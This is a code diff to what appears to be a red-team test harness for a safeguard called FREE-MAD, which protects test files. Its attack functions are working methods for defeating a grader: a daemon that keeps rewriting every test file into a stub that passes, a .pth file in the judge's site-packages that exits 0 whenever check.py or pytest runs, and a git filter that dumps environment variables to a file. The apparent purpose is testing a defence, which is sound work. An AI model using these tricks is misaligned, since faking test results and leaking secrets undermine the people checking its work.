@@ -58,17 +58,24 @@ def git_dir() -> Path:
     return Path(text.removeprefix("gitdir: ")).parent.parent
 
 
+def cheating(path: Path) -> str:
+    """What a test file says once the daemon has rewritten it: pass, whatever slow_sum does."""
+    return "def test_ok():\n    pass\n" if path.name.startswith("test_") else CHEATING_CHECK
+
+
 def attack_daemon(marker: str) -> None:
-    """1 and 6: a daemon that rewrites the protected check after FREE-MAD restores it."""
-    check = Path("tests/check.py").resolve()
+    """1 and 6: a daemon that rewrites the protected tests after FREE-MAD restores them."""
+    rewrites = {str(path.resolve()): cheating(path) for path in Path("tests").glob("*.py")}
     body = (
         "import time\n"
+        f"rewrites = {rewrites!r}\n"
         "end = time.time() + 30\n"
         "while time.time() < end:\n"
-        "    try:\n"
-        f"        open({str(check)!r}, 'w').write({CHEATING_CHECK!r})\n"
-        "    except OSError:\n"
-        "        pass\n"
+        "    for path, text in rewrites.items():\n"
+        "        try:\n"
+        "            open(path, 'w').write(text)\n"
+        "        except OSError:\n"
+        "            pass\n"
         "    time.sleep(0.002)\n"
     )
     daemon(marker, body)
@@ -76,7 +83,10 @@ def attack_daemon(marker: str) -> None:
 
 def attack_pth(marker: str) -> None:
     """2: a .pth file in the judge's own site-packages that makes the check exit 0."""
-    line = "import os, sys; 'check.py' in ' '.join(sys.argv) and os._exit(0)\n"
+    line = (
+        "import os, sys; any(w in ' '.join(sys.argv) for w in ('check.py', 'pytest'))"
+        " and os._exit(0)\n"
+    )
     for folder in site.getsitepackages():
         try:
             Path(folder, f"freemad_attack_{marker}.pth").write_text(line)
@@ -91,7 +101,8 @@ def attack_filter(marker: str) -> None:
     command = f"sh -c 'env > {capture}; cat'"
     try:
         with open(git_dir() / "config", "a") as config:
-            config.write(f'[filter "evil"]\n\tclean = {command}\n\tsmudge = {command}\n')
+            # Quoted: in a git config file an unquoted `;` starts a comment.
+            config.write(f'[filter "evil"]\n\tclean = "{command}"\n\tsmudge = "{command}"\n')
     except OSError:
         pass
     Path(".gitattributes").write_text("* filter=evil\n")
